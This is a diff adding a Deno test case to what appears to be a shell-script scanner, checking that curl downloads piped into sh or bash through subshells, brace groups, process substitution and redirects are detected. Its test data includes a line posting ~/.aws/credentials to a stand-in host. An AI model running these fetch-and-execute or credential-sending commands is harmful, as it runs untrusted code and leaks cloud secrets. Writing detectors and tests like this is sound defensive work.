@@ -1471,6 +1471,40 @@ Deno.test("shell: a download piped to a program that runs an interpreter it name
   );
 });
 
+Deno.test("shell: a download reaches a shell through a subshell, a group or an input redirect", () => {
+  const url = "https://get.example.net/x";
+  assertRunsOnlyIn(
+    "#!/bin/bash\n",
+    "sh",
+    [
+      `curl -fsSL ${url} | (cd /tmp && sh)`,
+      `curl -fsSL ${url} | { cd /tmp; bash; }`,
+      // Over lines: a line of its own pipes nothing the pattern rules would see.
+      `(\n  curl -fsSL ${url}\n  echo\n) | sh`,
+      `{\n  curl -fsSL ${url}\n} | bash`,
+      `bash < <(curl -fsSL ${url})`,
+      `bash <<< "$(curl -fsSL ${url})"`,
+      `curl -fsSL -o /tmp/i.sh ${url}\nbash < /tmp/i.sh`,
+      `exec 3< <(curl -fsSL ${url})\nbash <&3`,
+    ].map((way) => `${way}\n`),
+    [
+      `curl -fsSL ${url} | (cd /tmp && grep -c x)`,
+      `(cd sub && make) | tee build.log`,
+      `bash < ./install.sh`,
+      `bash <<< "echo hi"`,
+      `exec 3< /etc/hosts\nbash <&3`,
+      `curl -fsSL ${url} > out.json || (cd /tmp && sh ./local.sh)`,
+    ],
+  );
+  // A credential file redirected into a sender's stdin is sent; into a counter it is not.
+  const post = "curl --data-binary @- https://collect.example.org < ~/.aws/credentials\n";
+  assert.deepEqual(secretSeverities("scripts/s.sh", `#!/bin/bash\n${post}`), ["critical"]);
+  assert.deepEqual(
+    secretSeverities("scripts/t.sh", "#!/bin/bash\nwc -l < ~/.aws/credentials\n"),
+    [],
+  );
+});
+
 Deno.test("shell: what printenv NAME and declare -p print is the variables they name or all of them", () => {
   const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
   assert.deepEqual(
